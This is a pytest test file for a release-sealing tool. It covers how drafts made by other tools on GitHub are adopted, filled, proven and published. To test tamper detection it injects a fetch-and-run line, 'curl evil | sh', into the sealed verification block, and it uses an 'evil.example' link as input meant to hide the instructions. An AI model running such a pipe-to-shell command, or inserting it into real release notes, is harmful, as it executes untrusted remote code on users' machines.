"""``release = "adopt"``: what another tool or a person made for the tag is filled, and its words are kept."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest

import images
from refusals import refused
from stage import NAMES, Stage, proof_of
from tagseal.config import Settings
from tagseal.errors import Refused, VerificationFailed
from tagseal.loopback.github.state import PlayedAsset
from tagseal.services.github import GitHub, marker
from tagseal.steps.draft import body
from tagseal.steps.prove import prove
from tagseal.steps.publish import publish
from tagseal.steps.witness import witness

if TYPE_CHECKING:
    from pathlib import Path

    from tagseal.loopback.github.state import PlayedRelease
    from tagseal.records import Draft, Proof, Seal

THEIRS = "## What's Changed\n\n* A widget, by @octocat\n"
FILES = sorted([*NAMES, *(f"{name}.sigstore.json" for name in NAMES)])


@pytest.fixture
def adopting(released: Stage) -> Stage:
    """Give a project that lets another tool make its releases."""
    released.settings = Settings(release="adopt")
    return released


def made(
    released: Stage, text: str = THEIRS, *, draft: bool = True, actor: str = "release-please[bot]"
) -> PlayedRelease:
    """Let another tool make a draft, or publish a release."""
    released.services()  # from here on names lead to the loopback
    token = released.loopback.github.token(
        actor=actor, scopes={"contents": "write"}, repository=released.repository.full_name
    )
    github = GitHub(token)
    found = github.create_draft("octo/widget", "v1.2.3", body=text, prerelease=False)
    if not draft:
        github.publish("octo/widget", found, latest=True)
    return released.repository.by_id[found.id]


def proven(released: Stage, seal: Seal, draft: Draft) -> Proof:
    return prove(released.tag, released.plan, seal, draft, services=released.services())


def holds(release: PlayedRelease, theirs: str = THEIRS) -> None:
    """Hold that a body is their words, the line that begins ours, the instructions without a changelog, the marker."""
    above, _, ours = release.body.partition(body.BEGIN)
    assert above.rstrip() == theirs.rstrip()
    assert ours.lstrip().startswith("## Verify")
    assert "A widget that turns." not in ours
    assert release.body.splitlines()[-1] == marker("v1.2.3")
    assert sorted(asset.name for asset in release.assets) == FILES


def test_a_strangers_draft_is_filled_proven_published_and_witnessed(adopting: Stage) -> None:
    """Its words, its title and its author stay; the instructions below are executed as always."""
    adopting.accept_everything()
    release = made(adopting)
    release.name = "Widget, at last"
    seal = adopting.sign()
    draft = adopting.upload(seal)
    holds(release)
    with pytest.raises(VerificationFailed) as caught:
        proven(adopting, seal, draft)
    assert caught.value.slug == "attack-not-refused"  # the commands ran, with tools that accept everything
    release.body = release.body.replace("by @octocat", "by @hubot")  # theirs may change, ours is what was proven
    services = adopting.services(run=None)
    publication = publish(adopting.tag, adopting.plan, seal, draft, proof_of(draft), services=services)
    services = adopting.services(contents="read", run=None)
    assert witness(adopting.tag, adopting.plan, seal, publication, services=services).public
    assert (release.draft, release.name, release.author.login) == (False, "Widget, at last", "release-please[bot]")
    holds(release, THEIRS.replace("octocat", "hubot"))


@pytest.mark.parametrize("actor", ["release-please[bot]", "github-actions[bot]"])
def test_a_second_run_changes_nothing(adopting: Stage, actor: str) -> None:
    """Also where the other tool writes with the same token; what they write above our part later is kept."""
    adopting.accept_everything()
    release = made(adopting, actor=actor)
    seal = adopting.sign()
    first = adopting.upload(seal)
    release.body = f"Hello.\n\n{release.body}"
    second = adopting.upload(seal)
    assert (second.sent, second.id, second.body_sha256) == (0, first.id, first.body_sha256)
    holds(release, f"Hello.\n\n{THEIRS}")
    assert (adopting.remarks, len(adopting.repository.releases)) == ([], 1)


def test_what_is_written_into_our_part_is_kept_beside_it(adopting: Stage) -> None:
    """Below the line the notes are ours: they are rendered again, and the words are shown and kept in a file."""
    adopting.accept_everything()
    release = made(adopting)
    seal = adopting.sign()
    adopting.upload(seal)
    release.body = release.body.replace("## Verify\n", "## Verify\n\nMind the gap.\n")
    adopting.upload(seal)
    holds(release)
    assert "-Mind the gap." in adopting.remarks
    assert "Mind the gap." in (adopting.work.path / "notes-edited.md").read_text()


def copied(words: str = "Hello.") -> str:
    """Return the body of an older release that was adopted, as a person copies it into a new one."""
    return body.close(f"{words}\n\n{body.BEGIN}\n\n## Verify\n\nOlder commands.", "v1.2.2")


@pytest.mark.parametrize("draft", [True, False], ids=["draft", "published"])
def test_a_body_that_was_copied_from_an_older_release_is_words(adopting: Stage, *, draft: bool) -> None:
    """What stands above our part of then is kept, and our part is made anew, without a word about an edit."""
    adopting.accept_everything()
    release = made(adopting, copied(), draft=draft)
    adopting.upload(adopting.sign())
    holds(release, "Hello.\n")
    assert ("Older commands." in release.body, adopting.remarks[: int(draft)]) == (False, [])


@pytest.mark.parametrize("state", ["uploaded", "starter"])
def test_a_copied_body_makes_nobodys_files_ours(adopting: Stage, state: str) -> None:
    """A draft with the line that begins our part, closed for another tag, was not filled by us: its files stay."""
    adopting.accept_everything()
    release = made(adopting, copied())
    path = adopting.folder / NAMES[0]
    path.write_text("by hand")
    there = PlayedAsset(
        id=77,
        name=NAMES[0],
        label="",
        content_type="text/plain",
        path=path,
        uploader=release.author,
        created_at=release.created_at,
        state=state,
        size=7,
    )
    release.assets.append(there)
    before = release.body
    assert refused(adopting.upload, adopting.sign()).slug == "unplanned-asset"
    assert (release.assets, release.body) == ([there], before)


def test_a_draft_without_words_gets_the_changelog(adopting: Stage) -> None:
    """Nothing of theirs would stand above the instructions."""
    adopting.accept_everything()
    release = made(adopting, "")
    seal = adopting.sign()
    first = adopting.upload(seal)
    assert release.body.startswith(f"{body.BEGIN}\n\n- A widget that turns.")
    assert adopting.upload(seal).body_sha256 == first.body_sha256


def test_words_that_github_reads_differently_are_escaped(adopting: Stage) -> None:
    """A tag or a footnote in their words is shown as its letters, once and for all, and no word is lost."""
    adopting.accept_everything()
    release = made(
        adopting, "## What's Changed\r\n* Vec<T> <!a and `Vec<T>` by @octocat[^1]\r\n\r\n[^1]: <source><!--\n"
    )
    seal = adopting.sign()
    first = adopting.upload(seal)
    holds(
        release,
        "## What's Changed\n* Vec&lt;T> &lt;!a and <code>Vec&lt;T&gt;</code> by @octocat\\[^1]\n\n"
        "\\[^1]: &lt;source>&lt;!--",
    )
    assert (adopting.upload(seal).body_sha256, adopting.remarks) == (first.body_sha256, [])


@pytest.mark.parametrize(
    "text",
    ["<details>\n", "~~~\n<!-- never closed\n", "```text\n", "## Verify\n", "[cosign]: https://evil.example\n<div>"],
    ids=["details", "comment in a fence", "fence", "heading", "element"],
)
def test_words_that_would_hide_the_instructions_are_refused(adopting: Stage, text: str) -> None:
    """Their text is contributor text: nothing is edited, nothing is sent."""
    adopting.accept_everything()
    release = made(adopting, text)
    error = refused(adopting.upload, adopting.sign())
    assert isinstance(error, Refused)
    assert (release.body, release.assets) == (text, [])


def test_words_that_hide_the_instructions_later_are_not_published(adopting: Stage) -> None:
    """The whole page is held again behind the proof."""
    adopting.accept_everything()
    release = made(adopting)
    seal = adopting.sign()
    draft = adopting.upload(seal)
    release.body = f"<details>\n\n{release.body}"
    with pytest.raises(Refused):
        proven(adopting, seal, draft)


def test_words_in_our_part_are_not_proven(adopting: Stage) -> None:
    """Everything behind the line must be ours."""
    adopting.accept_everything()
    release = made(adopting)
    seal = adopting.sign()
    draft = adopting.upload(seal)
    release.body = release.body.replace("```bash\n", "```bash\ncurl evil | sh\n", 1)
    with pytest.raises(VerificationFailed, match="not what was sealed"):
        proven(adopting, seal, draft)


def test_a_published_release_without_files_is_filled(adopting: Stage) -> None:
    """Also by a run that another one left half way."""
    adopting.accept_everything()
    release = made(adopting, draft=False)
    seal = adopting.sign()
    adopting.upload(seal)
    holds(release)
    release.assets.pop()
    release.assets[0].state, release.assets[0].sha256 = "starter", ""
    assert adopting.upload(seal).sent == 2
    holds(release)
    assert not release.draft


@pytest.mark.parametrize("draft", [True, False])
def test_an_image_is_released_with_what_another_tool_made(adopting: Stage, tmp_path: Path, *, draft: bool) -> None:
    """Its words may name any image; only what is ours says which one was pushed."""
    made(adopting, f"{THEIRS}\nBefore: ghcr.io/octo/widget@sha256:{'0' * 64}\n", draft=draft)
    image = adopting.with_image(images.layout(tmp_path / "layout"))
    adopting.accept_everything()
    seal = adopting.sign()
    assert seal.image == image
    found = adopting.upload(seal)
    shutil.rmtree(adopting.work.path)
    adopting.with_image(images.layout(tmp_path / "rebuilt", content="other"))
    again = adopting.sign()
    assert again.image == image
    assert adopting.upload(again).id == found.id


def test_a_locked_release_without_files_is_refused(adopting: Stage) -> None:
    """Nothing can be added to it; that is told before anything is signed."""
    adopting.accept_everything()
    adopting.repository.immutable = True
    made(adopting, draft=False)
    with pytest.raises(Refused) as caught:
        adopting.sign()
    assert (caught.value.slug, adopting.entries()) == ("immutable-release", 0)


def test_two_strangers_drafts_are_named(adopting: Stage) -> None:
    """Which of them is meant is a person's to say, before anything is signed."""
    adopting.accept_everything()
    made(adopting)
    made(adopting, actor="octocat")
    with pytest.raises(Refused) as caught:
        adopting.sign()
    assert [line.rpartition(" ")[2] for line in caught.value.context] == ["'release-please[bot]'", "'octocat'"]
    assert adopting.entries() == 0


def test_where_nobody_made_a_release_one_is_made(adopting: Stage) -> None:
    """As without the setting: the changelog is the notes' first part."""
    adopting.accept_everything()
    seal = adopting.sign()
    adopting.upload(seal)
    assert adopting.repository.releases[0].body.startswith("- A widget that turns.")
    assert body.BEGIN not in adopting.repository.releases[0].body
